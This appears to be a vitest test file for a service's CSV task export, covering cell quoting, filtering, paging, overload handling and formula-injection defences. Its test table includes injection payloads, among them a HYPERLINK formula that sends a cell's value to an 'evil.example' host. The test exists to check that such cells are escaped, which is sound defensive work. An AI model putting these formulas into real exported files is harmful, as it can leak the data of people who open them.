import { createKeys } from "@taskpulse/store";
import { Redis } from "ioredis";
import { expect, test } from "vitest";
import { consumerUnderTest } from "../fixtures/consumer-under-test.ts";
import { newTask, replyOf } from "../fixtures/ingest-calls.ts";
import { rawConnection } from "../fixtures/raw-connection.ts";
import { readTaskCsv } from "./task-csv.ts";

const consumer = consumerUnderTest();

const HEADER = "received_at,taskid,batchid,id,owner,priority,state";

const csv = async (query = "") => (await fetch(`${consumer.origin}/api/tasks.csv${query}`)).text();
const lines = (text: string) => text.split("\r\n").slice(0, -1);

/** The cells after time and taskid of the only task of this batch. */
async function cellsOf(task: { batchid: string }): Promise<string> {
  expect((await replyOf(await consumer.send(task))).retval).toMatchObject({ accepted: 1 });
  const [header, ...rest] = (await csv(`?batchid=${encodeURIComponent(task.batchid)}`)).split(
    /\r\n(?=\d{4}-|$)/,
  );
  expect(header).toBe(HEADER);
  const [row = ""] = rest;
  expect(row).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z,[a-z][a-z0-9]{25},/);
  return row.split(",").slice(2).join(",");
}

test("an empty store is a header", async () => {
  const response = await fetch(`${consumer.origin}/api/tasks.csv`);
  expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8; header=present");
  expect(response.headers.get("content-disposition")).toBe('attachment; filename="tasks.csv"');
  expect(await response.text()).toBe(`${HEADER}\r\n`);
});

test.each([
  ["=1+1", "'=1+1"],
  ["+1", "'+1"],
  ["-1", "'-1"],
  ["@SUM(A1)", "'@SUM(A1)"],
  ["\t=1", `"'\t=1"`],
  [" =1+1", "' =1+1"],
  [";=cmd", `"';=cmd"`],
  ["\uFEFF=1", "'\uFEFF=1"],
  ["\r=1", `"'\r=1"`],
  ["\n=1", `"'\n=1"`],
  ["＝1+1", "'＝1+1"],
  ['=HYPERLINK("http://evil.example?x="&A1,"click")', null],
  ["a=1", "a=1"],
  ["'=1", "'=1"],
])("a formula is a text: %j", async (owner, cell) => {
  const batchid = `f${owner.length}${owner.charCodeAt(0)}`;
  const expected = cell ?? `"'${owner.replaceAll('"', '""')}"`;
  expect(await cellsOf(newTask({ batchid, id: 7, owner }))).toBe(
    `${batchid},7,${expected},Major,received`,
  );
});

test.each([
  ["comma, and more", '"comma, and more"'],
  ['say "so"', '"say ""so"""'],
  ["two\r\nlines", '"two\r\nlines"'],
  ["two\nlines", '"two\nlines"'],
  ["two\rlines", '"two\rlines"'],
  ["; | \\", '"; | \\"'],
  ["日本語 \u2028 \u0000", "日本語 \u2028 \u0000"],
])("what would end a cell is quoted: %j", async (text, cell) => {
  const task = newTask({ batchid: `q ${text.length} ${text.charCodeAt(3)}`, id: text, owner: "o" });
  expect(await cellsOf(task)).toBe(`${task.batchid},${cell},o,Major,received`);
});

test("the filters of the list, newest first, page after page up to the limit", async () => {
  const tasks = Array.from({ length: 1_000 }, (_, id) =>
    newTask({ batchid: "many", id, owner: `Owner ${id}`, priority: id % 2 ? "Low" : "Critical" }),
  );
  for (let part = 0; part < 3; part++) {
    const next = tasks.map((task) => ({ ...task, id: task.id + part * 1_000 }));
    expect((await consumer.send(next)).status).toBe(200);
  }
  const [header, ...all] = lines(await csv("?batchid=many"));
  expect(header).toBe(HEADER);
  expect(all.map((line) => Number(line.split(",")[3]))).toEqual(
    Array.from({ length: 3_000 }, (_, i) => 2_999 - i),
  );
  expect(lines(await csv("?batchid=many&limit=1200")).length).toBe(1_201);
  expect(lines(await csv("?priority=Low&batchid=many&q=Owner+77")).length).toBe(1 + 3 * 6);
  expect(lines(await csv("?state=failed")).length).toBe(1);
});

test("when the time is over, the file says that it is not complete, and how to go on", async () => {
  const client = new Redis(consumer.redis.url);
  try {
    const files: string[] = [];
    for (let before: string | undefined; files.length < 4_000; ) {
      const query = { batchid: "many", before };
      let text = "";
      // No time at all: one page each.
      for await (const piece of await readTaskCsv(client, createKeys(), query, 10_000, 0))
        text += piece;
      const rest = lines(text);
      const cut = /^not complete: [^,]+ before=(\d+-\d+),{6}$/.exec(rest.at(-1) ?? "");
      files.push(...rest.slice(1, cut === null ? undefined : -1));
      if (cut === null) break;
      before = cut[1];
    }
    expect(files.map((line) => Number(line.split(",")[3]))).toEqual(
      Array.from({ length: 3_000 }, (_, i) => 2_999 - i),
    );
  } finally {
    client.disconnect();
  }
});

test("two exports at once, the third is told when to come again", async () => {
  const ask = "GET /api/tasks.csv?q=nothing-like-it HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n";
  using client = await rawConnection(consumer.port);
  // In one piece, so that all have begun before one has read anything.
  await client.write(ask.repeat(3));
  const text = await client.sees(/ 503 [\s\S]*overloaded/);
  expect([...text.matchAll(/^HTTP\/1\.1 (\d+)/gm)].map(([, status]) => status)).toEqual([
    ...["200", "200", "503"],
  ]);
  expect(text).toMatch(/retry-after: 2\r\n/i);
  await client.write(ask);
  await client.sees(/ 503 [\s\S]* 200 [\s\S]*0\r\n\r\n$/);
});

test.each(["limit=0", "limit=10001", "priority=low", "before=1"])(
  "?%s is refused by name",
  async (query) => {
    const refused = await fetch(`${consumer.origin}/api/tasks.csv?${query}`);
    expect(refused.status).toBe(400);
    expect(await refused.json()).toMatchObject({
      code: "invalid_request",
      errors: [{ path: query.split("=")[0] }],
    });
  },
);

test("a store that is away is told before the file begins", async () => {
  await consumer.redis.kill("SIGKILL");
  try {
    const refused = await fetch(`${consumer.origin}/api/tasks.csv`);
    expect([refused.status, refused.headers.get("retry-after")]).toEqual([503, "1"]);
    expect(refused.headers.get("content-disposition")).toBeNull();
  } finally {
    await consumer.redis.restart();
  }
});
